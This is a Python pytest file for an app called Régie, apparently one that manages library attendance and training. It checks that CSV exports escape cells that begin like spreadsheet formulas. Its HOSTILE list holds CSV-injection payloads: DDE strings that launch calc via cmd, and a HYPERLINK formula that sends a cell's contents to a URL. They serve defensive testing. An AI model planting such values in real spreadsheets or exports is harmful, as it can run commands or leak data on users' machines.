"""Every CSV file Régie writes keeps spreadsheets from running what staff typed: a cell
starting like a formula (= + - @, a tab or a carriage return) is written as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from app.cli import build_parser, run
from app.core.checklists import RunMode
from app.core.csvfiles import spreadsheet_cell
from app.core.models import SessionMode
from app.services import Services, build_attendance, build_checklists
from tests.attendance.helpers import add_session

HOSTILE = [
    '=HYPERLINK("https://example.org/?"&A1,"Open")',
    "+33 4 72 00 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_becomes_text(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Médiathèque centre", "40,0", "", " =1", "a=b", 12, -3, None])
def test_other_cells_are_left_alone(value: object) -> None:
    assert spreadsheet_cell(value) == value


def regie(capsys: pytest.CaptureFixture[str], db: Path, *args: str) -> tuple[int, str, str]:
    code = run(build_parser().parse_args(["--db", str(db), "--now", "2026-11-24T10:00", *args]))
    out = capsys.readouterr()
    return code, out.out, out.err


def test_the_activity_report_csv(
    services: Services, db_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    refs = services.references
    for n, name in enumerate(HOSTILE):
        refs.add_branch(f"b{n}", name)
        sid = add_session(services, branch=f"b{n}")
        build_attendance(services).set_counts(sid, registered=10, connected=6)
    path = tmp_path / "report.csv"
    code, _out, err = regie(capsys, db_path, "report", "--csv", str(path))
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""),
                           delimiter=";"))
    firsts = {row[0] for row in rows if row}
    for name in HOSTILE:
        assert "'" + name in firsts
        assert name not in firsts
    held = [row for row in rows if row and row[0] == "'" + HOSTILE[0]]
    assert held == [["'" + HOSTILE[0], "1", "10", "6", "0", "40,0"]]


def test_the_training_report_csv(
    services: Services, db_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    branch = services.references.add_branch("bib", "Bibliothèque")
    service = build_checklists(services)
    for name in HOSTILE[:4]:
        who = services.references.add_staff(name, branch, "trainee")
        run_ = service.start("atelier", RunMode.READ_DO, SessionMode.HYBRID, staff_id=who)
        for step in run_.steps:
            run_.tick(step.id)
        service.sign_off(run_, who)
    code, out, err = regie(capsys, db_path, "training", "report", "--csv")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert sorted(r["staff"] for r in rows) == sorted("'" + n for n in HOSTILE[:4])
    assert all(r["signed_off_by"] == r["staff"] for r in rows)
    assert {r["checklist"] for r in rows} == {"atelier"}
